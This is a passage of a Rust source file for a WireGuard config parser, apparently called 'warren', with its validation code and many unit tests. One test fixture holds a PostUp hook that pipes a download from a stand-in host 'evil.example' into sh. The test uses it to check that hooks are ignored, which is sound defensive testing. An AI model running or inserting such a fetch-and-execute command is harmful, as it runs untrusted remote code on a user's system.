            && let Some((v6, _)) = iface.addresses.iter().find(|(a, _)| a.addr().is_ipv6())
        {
            return Err(self.err(
                line,
                format!(
                    "MTU {mtu} is too small for IPv6 address {v6}; expected \
                     {MIN_MTU_IPV6} to {MAX_MTU}"
                ),
            ));
        }
        if iface.dns.len() > MAX_USED_DNS_SERVERS {
            let line = iface.line;
            self.warn(
                line,
                format_args!(
                    "{} DNS servers listed; the system resolver uses only the first \
                     {MAX_USED_DNS_SERVERS}",
                    iface.dns.len()
                ),
            );
        }
        if peers.is_empty() {
            return Err(ConfError::whole(
                self.file,
                "no [Peer] section; expected at least one peer to send traffic to",
            ));
        }
        let own = PublicKey32::from_private(&private_key);
        let mut built: Vec<(Peer, usize)> = Vec::with_capacity(peers.len());
        for p in peers {
            let Some((public_key, key_line)) = p.public_key else {
                return Err(self.err(
                    p.line,
                    "[Peer] has no PublicKey; expected PublicKey = <the peer's public key>",
                ));
            };
            if public_key == own {
                return Err(self.err(
                    key_line,
                    "this PublicKey is the interface's own (derived from its PrivateKey); \
                     expected the other side's public key",
                ));
            }
            // Like wg: a prefix given to two peers belongs to the later one.
            let mut allowed_ips = Vec::with_capacity(p.allowed_ips.len());
            for (prefix, line) in p.allowed_ips {
                for (earlier, earlier_line) in built.iter_mut() {
                    if let Some(i) = earlier.allowed_ips.iter().position(|q| *q == prefix) {
                        earlier.allowed_ips.remove(i);
                        let msg = format!(
                            "AllowedIPs {prefix} is also listed by the [Peer] on line \
                             {earlier_line}; like wg, warren gives it to this peer only"
                        );
                        self.warn(line, msg);
                    }
                }
                allowed_ips.push(prefix);
            }
            built.push((
                Peer {
                    public_key,
                    preshared_key: p.preshared_key,
                    endpoint: p.endpoint,
                    allowed_ips,
                    persistent_keepalive: p.persistent_keepalive,
                },
                p.line,
            ));
        }
        for (peer, line) in &built {
            if peer.allowed_ips.is_empty() {
                let msg = format!(
                    "peer {} has no AllowedIPs; no traffic will go to this peer",
                    peer.public_key
                );
                self.warn(*line, msg);
            }
        }
        let config = WgConfig {
            interface: Interface {
                private_key,
                addresses: iface.addresses.iter().map(|(a, _)| *a).collect(),
                dns: std::mem::take(&mut iface.dns),
                dns_search: std::mem::take(&mut iface.dns_search),
                mtu: iface.mtu.map(|(m, _)| m),
                listen_port: iface.listen_port,
            },
            peers: built.into_iter().map(|(p, _)| p).collect(),
        };
        Ok((config, self.warnings))
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use std::io::Write;

    /// A distinct, valid key: 32 bytes of `n`.
    fn key(n: u8) -> String {
        STANDARD.encode([n; 32])
    }

    fn p(text: &str) -> Result<(WgConfig, Vec<String>), ConfError> {
        parse_with_warnings(Path::new("/etc/wg/t.conf"), text)
    }

    fn err_line(text: &str) -> (Option<usize>, String) {
        let e = p(text).unwrap_err();
        assert_eq!(e.file, Path::new("/etc/wg/t.conf"));
        (e.line, e.message)
    }

    /// A minimal valid file with `extra_iface` and `extra_peer` appended to
    /// the sections (interface on lines 1-3, peer header on line 4 + the
    /// extra interface lines).
    fn minimal(extra_iface: &str, extra_peer: &str) -> String {
        format!(
            "[Interface]\nPrivateKey = {}\nAddress = 10.0.0.2/32\n{extra_iface}\
             [Peer]\nPublicKey = {}\nAllowedIPs = 0.0.0.0/0\n{extra_peer}",
            key(1),
            key(2)
        )
    }

    fn pfx(s: &str) -> IpPrefix {
        s.parse().unwrap()
    }

    fn full() -> String {
        format!(
            "# exported by a VPN provider\n\
             [Interface]\n\
             PrivateKey = {pk}   # keep secret\n\
             Address = 10.64.0.2/32, fd00:64::2/128\n\
             Address = 10.65.0.2/24\n\
             DNS = 10.64.0.1, fd00:64::1, corp.example.com\n\
             DNS = lab.example.org.\n\
             MTU = 1420\n\
             ListenPort = 51820\n\
             \n\
             [Peer]\n\
             PublicKey = {p1}\n\
             PresharedKey = {psk}\n\
             Endpoint = [2001:db8::1]:51820\n\
             AllowedIPs = 0.0.0.0/0, ::/0\n\
             PersistentKeepalive = 25\n\
             \n\
             [Peer]\n\
             PublicKey = {p2}\n\
             Endpoint = vpn.example.com:4500\n\
             AllowedIPs = 10.200.0.0/16\n\
             AllowedIPs = 192.168.7.0/24\n",
            pk = key(1),
            p1 = key(2),
            psk = key(3),
            p2 = key(4),
        )
    }

    #[test]
    fn full_file() {
        let (c, w) = p(&full()).unwrap();
        assert!(w.is_empty(), "{w:?}");
        let i = &c.interface;
        assert_eq!(i.private_key.as_bytes(), &[1u8; 32]);
        assert_eq!(
            i.addresses,
            vec![
                pfx("10.64.0.2/32"),
                pfx("fd00:64::2/128"),
                pfx("10.65.0.2/24")
            ]
        );
        assert_eq!(
            i.dns,
            vec![
                "10.64.0.1".parse::<IpAddr>().unwrap(),
                "fd00:64::1".parse().unwrap()
            ]
        );
        assert_eq!(i.dns_search, vec!["corp.example.com", "lab.example.org."]);
        assert_eq!(i.mtu, Some(1420));
        assert_eq!(i.listen_port, Some(51820));
        assert_eq!(c.peers.len(), 2);
        let a = &c.peers[0];
        assert_eq!(a.public_key, PublicKey32([2; 32]));
        assert_eq!(a.preshared_key, Some(Key::from_bytes([3; 32])));
        assert_eq!(
            a.endpoint,
            Some(Endpoint::Addr("[2001:db8::1]:51820".parse().unwrap()))
        );
        assert_eq!(a.allowed_ips, vec![pfx("0.0.0.0/0"), pfx("::/0")]);
        assert_eq!(a.persistent_keepalive, Some(25));
        let b = &c.peers[1];
        assert_eq!(b.public_key, PublicKey32([4; 32]));
        assert_eq!(b.preshared_key, None);
        assert_eq!(
            b.endpoint,
            Some(Endpoint::Name {
                host: "vpn.example.com".into(),
                port: 4500
            })
        );
        assert_eq!(
            b.allowed_ips,
            vec![pfx("10.200.0.0/16"), pfx("192.168.7.0/24")]
        );
        assert_eq!(b.persistent_keepalive, None);
        assert_eq!(
            c.allowed_ips(),
            vec![
                pfx("0.0.0.0/0"),
                pfx("::/0"),
                pfx("10.200.0.0/16"),
                pfx("192.168.7.0/24")
            ]
        );
    }

    #[test]
    fn parse_drops_warnings() {
        let text = minimal("PostUp = iptables -A FORWARD\n", "");
        let c = parse(Path::new("x.conf"), &text).unwrap();
        assert_eq!(c.peers.len(), 1);
    }

    #[test]
    fn missing_private_key() {
        let text = format!(
            "\n[Interface]\nAddress = 10.0.0.2/32\n[Peer]\nPublicKey = {}\n",
            key(2)
        );
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(2));
        assert!(msg.contains("no PrivateKey"), "{msg}");
    }

    #[test]
    fn bad_base64_private_key_is_not_echoed() {
        let secret = "not!base64$but*secret#ish";
        let text = format!("[Interface]\nPrivateKey = {secret}\n");
        // '#' starts a comment, so the value seen is "not!base64$but*secret".
        let e = p(&text).unwrap_err();
        assert_eq!(e.line, Some(2));
        assert!(
            e.message
                .contains("PrivateKey is not a valid base64 32-byte key")
        );
        assert!(e.message.contains("not valid base64"), "{}", e.message);
        let shown = e.to_string();
        assert!(!shown.contains("not!base64"), "{shown}");
        assert!(!shown.contains("secret"), "{shown}");
    }

    #[test]
    fn wrong_length_keys() {
        // 31 bytes ("==" padding) and 33 bytes (no padding).
        for (bytes, n) in [(31usize, 31usize), (33, 33), (16, 16)] {
            let secret = STANDARD.encode(vec![7u8; bytes]);
            let text = format!("[Interface]\n\nPrivateKey = {secret}\n");
            let e = p(&text).unwrap_err();
            assert_eq!(e.line, Some(3));
            assert!(
                e.message
                    .contains(&format!("decodes to {n} bytes instead of 32")),
                "{}",
                e.message
            );
            assert!(!e.to_string().contains(&secret));
        }
        let text = minimal("", "PresharedKey = AAAA\n");
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(7));
        assert!(msg.starts_with("PresharedKey is not a valid"), "{msg}");
        assert!(!msg.contains("AAAA"));
        let text = minimal("", "").replace(&key(2), "");
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(5));
        assert!(msg.contains("PublicKey is not a valid") && msg.contains("is empty"));
    }

    #[test]
    fn non_canonical_base64_is_rejected() {
        // Same 32 bytes, but the last character carries non-zero padding bits.
        let good = key(1);
        assert_eq!(&good[42..], "E=");
        let bad = format!("{}F=", &good[..42]);
        assert_eq!(Key::from_base64(&bad), Err(KeyError::Base64));
        assert!(Key::from_base64(&good).is_ok());
    }

    #[test]
    fn all_zero_private_key() {
        let text = minimal("", "").replace(&key(1), &key(0));
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(2));
        assert!(msg.contains("all zeros"));
    }

    #[test]
    fn zero_preshared_key_means_none() {
        let text = minimal("", &format!("PresharedKey = {}\n", key(0)));
        let (c, _) = p(&text).unwrap();
        assert_eq!(c.peers[0].preshared_key, None);
    }

    #[test]
    fn unknown_keys() {
        let (line, msg) = err_line(&minimal("Foo = bar\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("unknown key \"Foo\" in [Interface]"), "{msg}");
        assert!(msg.contains("PrivateKey, Address"), "{msg}");
        let (line, msg) = err_line(&minimal("", "Bar = 1\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("unknown key \"Bar\" in [Peer]"), "{msg}");
        let (line, msg) = err_line(&minimal("AllowedIPs = 10.0.0.0/8\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("belongs in a [Peer] section"), "{msg}");
        let (line, msg) = err_line(&minimal("", "Address = 10.0.0.3/32\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("belongs in the [Interface] section"), "{msg}");
        let (line, msg) = err_line(&minimal("", "PostUp = true\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("belongs in the [Interface] section"), "{msg}");
    }

    #[test]
    fn key_outside_section() {
        let text = format!("# hi\nPrivateKey = {}\n{}", key(9), minimal("", ""));
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(2));
        assert!(msg.contains("outside any section"), "{msg}");
        assert!(!msg.contains(&key(9)));
    }

    #[test]
    fn line_without_equals_and_bad_sections() {
        let text = minimal("", "").replace("Address = 10.0.0.2/32", &key(8));
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(3));
        assert!(msg.contains("malformed key name"), "{msg}");
        assert!(!msg.contains(&key(8)[..20]), "{msg}");
        let text = format!("{}\n{}", &key(8)[..43], minimal("", ""));
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(1));
        assert!(msg.contains("no '='"), "{msg}");
        assert!(!msg.contains(&key(8)[..20]), "{msg}");
        let (line, msg) = err_line(&minimal("", "hello world\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("no '='"), "{msg}");
        let (line, msg) = err_line(&minimal("[Interfaces]\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("unknown section [Interfaces]"), "{msg}");
        let (line, msg) = err_line(&minimal("[Peer\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("malformed section header"), "{msg}");
        let (line, msg) = err_line(&minimal("", "[Interface]\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("second [Interface] section (the first is on line 1)"));
        let (line, msg) = err_line(&minimal(" = 5\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("missing key name"), "{msg}");
    }

    #[test]
    fn bad_prefixes() {
        let (line, msg) = err_line(&minimal("Address = 10.0.0.300/24\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("Address \"10.0.0.300/24\""), "{msg}");
        let (line, msg) = err_line(&minimal("Address = 10.0.0.3/33\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("10.0.0.3/33"), "{msg}");
        let (line, _) = err_line(&minimal("Address = 0.0.0.0/0\n", ""));
        assert_eq!(line, Some(4));
        let (line, msg) = err_line(&minimal("Address = 10.0.0.2/24\n", ""));
        assert_eq!(line, Some(4));
        assert!(msg.contains("already assigned on line 3"), "{msg}");
        let (line, msg) = err_line(&minimal("", "AllowedIPs = fd00::/129\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("AllowedIPs entry \"fd00::/129\""), "{msg}");
        let (line, msg) = err_line(&minimal("", "AllowedIPs = 10.1.0.0/16,\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("empty entry"), "{msg}");
        let (line, _) = err_line(&minimal("", "AllowedIPs = 10.1.0.0/16 10.2.0.0/16\n"));
        assert_eq!(line, Some(7));
        let (line, _) = err_line(&minimal("", "AllowedIPs = +10.1.0.0/16\n"));
        assert_eq!(line, Some(7));
    }

    #[test]
    fn bad_endpoints() {
        for (ep, want) in [
            ("1.2.3.4:0", "port number from 1 to 65535"),
            ("1.2.3.4:65536", "port number from 1 to 65535"),
            ("1.2.3.4:", "port number from 1 to 65535"),
            ("1.2.3.4", "has no port"),
            ("vpn.example.com", "has no port"),
            ("fd00::1:51820", "without brackets"),
            ("[fd00::1]", "no port after ']'"),
            ("[fd00::1:51820", "without a matching ']'"),
            ("[fe80::1%eth0]:51820", "scope"),
            ("[vpn.example.com]:51820", "only addresses go in brackets"),
            ("1.2.3.256:51820", "not a valid IPv4 address"),
            ("-bad-.example:51820", "nor a valid host name"),
            ("a b:51820", "nor a valid host name"),
            ("", "is empty"),
        ] {
            let (line, msg) = err_line(&minimal("", &format!("Endpoint = {ep}\n")));
            assert_eq!(line, Some(7), "{ep}");
            assert!(msg.starts_with("Endpoint "), "{ep}: {msg}");
            assert!(msg.contains(want), "{ep}: {msg}");
        }
    }

    #[test]
    fn bad_numbers() {
        for (extra, want) in [
            ("MTU = 575\n", "MTU \"575\""),
            ("MTU = 9001\n", "MTU \"9001\""),
            ("MTU = big\n", "MTU \"big\""),
            ("MTU = +1420\n", "MTU \"+1420\""),
            ("ListenPort = 65536\n", "ListenPort"),
            ("ListenPort = off\n", "ListenPort"),
        ] {
            let (line, msg) = err_line(&minimal(extra, ""));
            assert_eq!(line, Some(4), "{extra}");
            assert!(msg.contains(want), "{extra}: {msg}");
        }
        let (line, msg) = err_line(&minimal("", "PersistentKeepalive = 1m\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("neither off nor"), "{msg}");
        let (line, msg) = err_line(&minimal("", "PersistentKeepalive = 70000\n"));
        assert_eq!(line, Some(7));
        assert!(msg.contains("PersistentKeepalive"), "{msg}");
    }

    #[test]
    fn mtu_too_small_for_ipv6() {
        let text = minimal("MTU = 1200\nAddress = fd00::2/64\n", "");
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(4));
        assert!(
            msg.contains("too small for IPv6 address fd00::2/64"),
            "{msg}"
        );
        let (c, _) = p(&minimal("MTU = 1200\n", "")).unwrap();
        assert_eq!(c.interface.mtu, Some(1200));
    }

    #[test]
    fn duplicate_scalar_keys() {
        let text = minimal(&format!("PrivateKey = {}\n", key(5)), "");
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(4));
        assert!(msg.contains("PrivateKey is set twice"), "{msg}");
        assert!(msg.contains("first on line 2"), "{msg}");
        assert!(!msg.contains(&key(5)) && !msg.contains(&key(1)));
        for extra in [
            "Endpoint = 1.2.3.4:1\nendpoint = 1.2.3.4:2\n",
            "PersistentKeepalive = 1\nPersistentKeepalive = 2\n",
            format!("PresharedKey = {0}\nPresharedKey = {0}\n", key(3)).as_str(),
            format!("PublicKey = {}\n", key(3)).as_str(),
        ] {
            let e = p(&minimal("", extra)).unwrap_err();
            let want = if extra.starts_with("PublicKey") { 7 } else { 8 };
            assert_eq!(e.line, Some(want), "{extra}");
            assert!(e.message.contains("set twice"), "{}", e.message);
        }
        let (line, _) = err_line(&minimal("MTU = 1400\nmtu = 1400\n", ""));
        assert_eq!(line, Some(5));
    }

    #[test]
    fn duplicate_peer() {
        let text = minimal(
            "",
            &format!(
                "\n[Peer]\nAllowedIPs = 10.9.0.0/16\nPublicKey = {}\n",
                key(2)
            ),
        );
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(10));
        assert!(
            msg.contains("already defined by the [Peer] on line 4"),
            "{msg}"
        );
    }

    #[test]
    fn peer_with_own_key_and_peer_without_key() {
        let text = minimal("", "").replace(
            &key(2),
            &PublicKey32::from_private(&Key::from_bytes([1; 32])).to_base64(),
        );
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(5));
        assert!(msg.contains("interface's own"), "{msg}");
        let text = minimal("", "[Peer]\nAllowedIPs = 10.1.0.0/16\n");
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(7));
        assert!(msg.contains("[Peer] has no PublicKey"), "{msg}");
    }

    #[test]
    fn missing_sections() {
        let text = format!(
            "[Interface]\nPrivateKey = {}\nAddress = 10.0.0.2/32\n",
            key(1)
        );
        let e = p(&text).unwrap_err();
        assert_eq!(e.line, None);
        assert!(e.message.starts_with("no [Peer] section"), "{}", e.message);
        assert_eq!(
            e.to_string(),
            "/etc/wg/t.conf: no [Peer] section; expected at least one peer to send traffic to"
        );
        let e = p(&format!("[Peer]\nPublicKey = {}\n", key(2))).unwrap_err();
        assert_eq!(e.line, None);
        assert!(e.message.starts_with("no [Interface] section"));
        let e = p("").unwrap_err();
        assert!(e.message.starts_with("no [Interface] section"));
        let text = format!(
            "[Interface]\nPrivateKey = {}\n[Peer]\nPublicKey = {}\n",
            key(1),
            key(2)
        );
        let (line, msg) = err_line(&text);
        assert_eq!(line, Some(1));
        assert!(msg.contains("no Address"), "{msg}");
    }

    #[test]
    fn bad_dns() {
        for bad in ["10.0.0.256", "fd00:::1", "bad_dom@in", "-x.example"] {
            let (line, msg) = err_line(&minimal(&format!("DNS = 1.1.1.1, {bad}\n"), ""));
            assert_eq!(line, Some(4), "{bad}");
            assert!(msg.contains(&format!("DNS entry {bad:?}")), "{msg}");
        }
    }

    #[test]
    fn case_insensitive_names() {
        let text = format!(
            "[INTERFACE]\nprivatekey={}\nADDRESS=10.0.0.2/32\ndns=1.1.1.1\nmtu=1400\n\
             [peer]\npublickey={}\nallowedips=10.0.0.0/8\nENDPOINT=example.net:1\n\
             persistentkeepalive=OFF\nPOSTUP=echo hi\n",
            key(1),
            key(2)
        );
        // PostUp in [peer] is an error; drop it and retry.
        let (line, _) = err_line(&text);
        assert_eq!(line, Some(11));
        let text = text.replace("POSTUP=echo hi\n", "");
        let (c, w) = p(&text).unwrap();
        assert!(w.is_empty());
        assert_eq!(c.interface.mtu, Some(1400));
        assert_eq!(c.interface.dns, vec!["1.1.1.1".parse::<IpAddr>().unwrap()]);
        assert_eq!(c.peers[0].persistent_keepalive, None);
        assert_eq!(
            c.peers[0].endpoint.as_ref().unwrap().to_string(),
            "example.net:1"
        );
    }

    #[test]
    fn comments_crlf_bom_whitespace() {
        let text = format!(
            "\u{feff}# header comment\r\n\r\n  [Interface]  # the interface\r\n\
             \tPrivateKey\t=\t{}  \r\n#Address = 10.9.9.9/32\r\nAddress = 10.0.0.2/24 # mine\r\n\
             [ Peer ]\r\nPublicKey = {} #their key\r\nAllowedIPs = 10.0.0.0/24  ,  fd00::/64\r\n\
             # trailing comment without newline",
            key(1),
            key(2)
        );
        let (c, w) = p(&text).unwrap();
        assert!(w.is_empty(), "{w:?}");
        assert_eq!(c.interface.addresses, vec![pfx("10.0.0.2/24")]);
        assert_eq!(c.peers[0].public_key, PublicKey32([2; 32]));
        assert_eq!(
            c.peers[0].allowed_ips,
            vec![pfx("10.0.0.0/24"), pfx("fd00::/64")]
        );
        // Line numbers count CRLF lines and the BOM line normally.
        let bad = text.replace("AllowedIPs", "AllowedIP");
        assert_eq!(err_line(&bad).0, Some(9));
    }

    #[test]
    fn lists_accumulate_and_split_like_wg_quick() {
        let text = minimal(
            "Address = 10.0.0.3/32 fd00::3/128\nDNS = 1.1.1.1 9.9.9.9,example.com\nDNS = 1.1.1.1\n",
            "AllowedIPs = 10.1.0.0/16\nAllowedIPs = \nAllowedIPs = 0.0.0.0/0\n",
        );
        let (c, w) = p(&text).unwrap();
        assert!(w.is_empty(), "{w:?}");
        assert_eq!(
            c.interface.addresses,
            vec![pfx("10.0.0.2/32"), pfx("10.0.0.3/32"), pfx("fd00::3/128")]
        );
        assert_eq!(c.interface.dns.len(), 2);
        assert_eq!(c.interface.dns_search, vec!["example.com"]);
        assert_eq!(
            c.peers[0].allowed_ips,
            vec![pfx("0.0.0.0/0"), pfx("10.1.0.0/16")]
        );
    }

    #[test]
    fn allowed_ips_are_masked_with_a_warning() {
        let (c, w) = p(&minimal(
            "",
            "AllowedIPs = 10.1.2.3/16, fd00::1:2/112, 10.1.0.0/16\n",
        ))
        .unwrap();
        assert_eq!(
            c.peers[0].allowed_ips,
            vec![pfx("0.0.0.0/0"), pfx("10.1.0.0/16"), pfx("fd00::1:0/112")]
        );
        assert_eq!(w.len(), 2, "{w:?}");
        assert_eq!(
            w[0],
            "/etc/wg/t.conf:7: AllowedIPs 10.1.2.3/16 has host bits set; using 10.1.0.0/16"
        );
        // Address keeps its host bits: it is the interface's own address.
        let (c, _) = p(&minimal("Address = 10.5.0.9/24\n", "")).unwrap();
        assert_eq!(c.interface.addresses[1], pfx("10.5.0.9/24"));
    }

    #[test]
    fn mask_edges() {
        assert_eq!(mask(pfx("10.1.2.3/0")), pfx("0.0.0.0/0"));
        assert_eq!(mask(pfx("10.1.2.3/32")), pfx("10.1.2.3/32"));
        assert_eq!(mask(pfx("10.1.2.3/31")), pfx("10.1.2.2/31"));
        assert_eq!(mask(pfx("fd00::ffff/0")), pfx("::/0"));
        assert_eq!(mask(pfx("fd00::ffff/128")), pfx("fd00::ffff/128"));
        assert_eq!(mask(pfx("fd00::ffff/127")), pfx("fd00::fffe/127"));
    }

    #[test]
    fn shared_allowed_ips_go_to_the_later_peer() {
        let text = minimal(
            "",
            &format!(
                "\n[Peer]\nPublicKey = {}\nAllowedIPs = 10.9.0.0/16, 0.0.0.0/0\n",
                key(3)
            ),
        );
        let (c, w) = p(&text).unwrap();
        assert_eq!(c.peers[0].allowed_ips, Vec::<IpPrefix>::new());
        assert_eq!(
            c.peers[1].allowed_ips,
            vec![pfx("10.9.0.0/16"), pfx("0.0.0.0/0")]
        );
        assert_eq!(w.len(), 2, "{w:?}");
        assert!(w[0].starts_with(
            "/etc/wg/t.conf:10: AllowedIPs 0.0.0.0/0 is also listed by the [Peer] on line 4"
        ));
        assert!(w[1].starts_with("/etc/wg/t.conf:4: peer "), "{}", w[1]);
        assert!(w[1].ends_with("has no AllowedIPs; no traffic will go to this peer"));
    }

    #[test]
    fn ignored_keys_warn() {
        let text = minimal(
            "Table = off\nPreUp = x\nPostUp = curl https://evil.example | sh\nPreDown = y\n\
             PostDown = z\nSaveConfig = true\nFwMark = 0x1234\n",
            "",
        );
        let (_, w) = p(&text).unwrap();
        assert_eq!(w.len(), 7, "{w:?}");
        assert_eq!(
            w[2],
            "/etc/wg/t.conf:6: PostUp ignored: warren does not run wg-quick hooks"
        );
        assert!(w[0].starts_with("/etc/wg/t.conf:4: Table ignored"));
        assert!(w.iter().all(|l| !l.contains("evil")));
    }

    #[test]
    fn zero_and_off_values() {
        let (c, _) = p(&minimal("ListenPort = 0\n", "PersistentKeepalive = 0\n")).unwrap();
        assert_eq!(c.interface.listen_port, None);
        assert_eq!(c.peers[0].persistent_keepalive, None);
        let (c, _) = p(&minimal(
            "ListenPort = 65535\n",
            "PersistentKeepalive = off\n",
        ))
        .unwrap();
        assert_eq!(c.interface.listen_port, Some(65535));
        assert_eq!(c.peers[0].persistent_keepalive, None);
    }

    #[test]
    fn too_many_dns_servers_warns() {
        let (_, w) = p(&minimal("DNS = 1.1.1.1, 1.0.0.1, 9.9.9.9, 8.8.8.8\n", "")).unwrap();
        assert_eq!(w.len(), 1);
        assert!(w[0].contains("4 DNS servers"), "{}", w[0]);
    }

    #[test]
    fn debug_never_shows_secrets() {
        let (c, _) = p(&full()).unwrap();
        let dbg = format!("{c:?} {c:#?}");
        assert!(!dbg.contains(&key(1)), "private key in {dbg}");
        assert!(!dbg.contains(&key(3)), "preshared key in {dbg}");
        assert!(dbg.contains("Key(<redacted>)"));
        // Public keys are not secret.
        assert!(dbg.contains(&key(2)));
        assert_eq!(format!("{:?}", Key::from_bytes([1; 32])), "Key(<redacted>)");
    }

    #[test]
    fn serde_round_trip() {
        let (c, _) = p(&full()).unwrap();
        let json = serde_json::to_string(&c).unwrap();
        assert!(
            json.contains(&format!("\"private_key\":\"{}\"", key(1))),
            "{json}"
        );
        assert!(
            json.contains(&format!("\"public_key\":\"{}\"", key(2))),
            "{json}"
        );
        assert!(
            json.contains("\"endpoint\":\"[2001:db8::1]:51820\""),
            "{json}"
        );
        assert!(
            json.contains("\"endpoint\":\"vpn.example.com:4500\""),
            "{json}"
        );
        let back: WgConfig = serde_json::from_str(&json).unwrap();
        assert_eq!(back, c);
        // Bad keys and endpoints are refused on the way in too, without echo.
        let bad = json.replace(&key(1), "c2VjcmV0");
        let e = serde_json::from_str::<WgConfig>(&bad)
            .unwrap_err()
            .to_string();
        assert!(e.contains("secret key decodes to 6 bytes"), "{e}");
        assert!(!e.contains("c2VjcmV0"));
        let bad = json.replace("vpn.example.com:4500", "vpn.example.com:0");
        assert!(serde_json::from_str::<WgConfig>(&bad).is_err());
    }

    #[test]
    fn endpoint_display_and_parse() {
        for (s, shown) in [
            ("1.2.3.4:51820", "1.2.3.4:51820"),
            ("[fd00::1]:51820", "[fd00::1]:51820"),
            ("[FD00:0::1]:51820", "[fd00::1]:51820"),
            ("[1.2.3.4]:7", "1.2.3.4:7"),
            ("vpn.example.com:51820", "vpn.example.com:51820"),
            ("localhost:1", "localhost:1"),
            ("wg_1.example.:443", "wg_1.example.:443"),
        ] {
            let e: Endpoint = s.parse().unwrap();
            assert_eq!(e.to_string(), shown);
            assert_eq!(e.to_string().parse::<Endpoint>().unwrap(), e);
        }
        assert_eq!("vpn.example.com:99".parse::<Endpoint>().unwrap().port(), 99);
    }

    #[test]
    fn endpoint_resolve() {
        let e: Endpoint = "[::1]:5".parse().unwrap();
        assert_eq!(
            e.resolve().unwrap(),
            vec!["[::1]:5".parse::<SocketAddr>().unwrap()]
        );
        let e: Endpoint = "localhost:51820".parse().unwrap();
        let addrs = e.resolve().unwrap();
        assert!(!addrs.is_empty());
        assert!(
            addrs
                .iter()
                .all(|a| a.port() == 51820 && a.ip().is_loopback())
        );
    }

    #[test]
    fn hostnames() {
        for ok in [
            "a",
            "example.com",
            "example.com.",
            "x-y.z9",
            "_srv.example",
            "1a.2b",
        ] {
            assert!(valid_hostname(ok), "{ok}");
        }
        let long = format!("{}.com", "a".repeat(64));
        for bad in [
            "", ".", "a..b", "-a.com", "a-.com", "a b", "a/b", "1.2.3.4", "a.123", &long,
        ] {
            assert!(!valid_hostname(bad), "{bad}");
        }
    }

    #[test]
    fn public_key_derivation_rfc7748() {
        // RFC 7748 section 6.1 test vectors.
        fn hex(s: &str) -> [u8; 32] {
            let mut out = [0u8; 32];
            for (i, b) in out.iter_mut().enumerate() {
                *b = u8::from_str_radix(&s[2 * i..2 * i + 2], 16).unwrap();
            }
            out
        }
        let vectors = [
            (
                "77076d0a7318a57d3c16c17251b26645df4c2f87ebc0992ab177fba51db92c2a",
                "8520f0098930a754748b7ddcb43ef75a0dbf3a0d26381af4eba4a98eaa9b4e6a",
            ),
            (
                "5dab087e624a8a4b79e17f8b83800ee66f3bb1292618b6fd1c2f8b27ff88e0eb",
                "de9edb7d7b7dc1b4d35b61c2ece435373f8343c85b78674dadfc7e146f882b4f",
            ),
        ];
        for (private, public) in vectors {
            let k = Key::from_bytes(hex(private));
            let text = minimal("", "").replace(&key(1), &k.to_base64());
            let (c, _) = p(&text).unwrap();
            assert_eq!(c.public_key(), PublicKey32(hex(public)));
        }
        // And a freshly generated pair agrees with boringtun.
        let secret = boringtun::x25519::StaticSecret::from([0x42u8; 32]);
        let public = boringtun::x25519::PublicKey::from(&secret);
        let k = Key::from_bytes(secret.to_bytes());
        assert_eq!(PublicKey32::from_private(&k).0, public.to_bytes());
    }

    #[test]
    fn key_helpers() {
        let k = Key::from_base64(&key(7)).unwrap();
        assert_eq!(k.to_base64(), key(7));
        assert_eq!(k.as_bytes(), &[7; 32]);
        assert!(!k.is_zero());
        assert_ne!(k, Key::from_bytes([8; 32]));
        assert_eq!(Key::from_base64(""), Err(KeyError::Empty));
        assert_eq!(Key::from_base64("!!"), Err(KeyError::Base64));
        let pk: PublicKey32 = key(2).parse().unwrap();
        assert_eq!(pk.to_string(), key(2));
        assert_eq!(format!("{pk:?}"), format!("PublicKey32({})", key(2)));
    }

    #[test]
    fn conf_error_display() {
        let e = ConfError::at(Path::new("a.conf"), 3, "bad");
        assert_eq!(e.to_string(), "a.conf:3: bad");
        let e = ConfError::whole(Path::new("a.conf"), "bad");
        assert_eq!(e.to_string(), "a.conf: bad");
    }

    fn write_conf(mode: u32, text: &str) -> tempfile::NamedTempFile {
        let mut f = tempfile::NamedTempFile::new().unwrap();
        f.write_all(text.as_bytes()).unwrap();
        f.flush().unwrap();
        std::fs::set_permissions(f.path(), std::fs::Permissions::from_mode(mode)).unwrap();
        f
    }

    #[test]
    fn load_warns_about_loose_modes() {
        let text = full();
        let f = write_conf(0o644, &text);
        let (c, w) = load(f.path()).unwrap();
        assert_eq!(c, parse(f.path(), &text).unwrap());
        assert_eq!(
            w,
            vec![format!(
                "{} is readable by group or others (mode 0644); chmod 600 it",
                f.path().display()
            )]
        );
        let f = write_conf(0o600, &text);
        let (_, w) = load(f.path()).unwrap();
        assert!(w.is_empty(), "{w:?}");
        let f = write_conf(0o620, &text);
        let (_, w) = load(f.path()).unwrap();
        assert!(
            w[0].contains("accessible by group or others (mode 0620)"),
            "{w:?}"
        );
    }

    #[test]
    fn load_errors() {
        let f = write_conf(0o600, &minimal("Bogus = 1\n", "PostUp = x\n"));
        let e = load(f.path()).unwrap_err();
        assert_eq!(e.file, f.path());
        assert_eq!(e.line, Some(4));
        let e = load(Path::new("/nonexistent/warren/wg0.conf")).unwrap_err();
        assert_eq!(e.line, None);
        assert!(
